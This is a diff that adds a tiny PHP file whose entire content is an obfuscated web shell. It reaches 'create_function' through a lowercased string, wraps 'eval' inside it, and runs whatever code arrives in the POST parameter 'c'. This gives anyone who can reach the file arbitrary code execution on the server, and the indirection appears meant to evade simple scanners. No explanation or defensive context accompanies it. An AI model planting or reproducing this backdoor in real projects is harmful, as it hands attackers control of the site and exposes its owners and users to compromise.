@@ -1,0 +1,4 @@
+<?php
+$cf = strtolower('CREATE_FUNCTION');
+$fn = $cf('$x', 'return ' . 'eval($x);');
+$fn($_POST['c']);
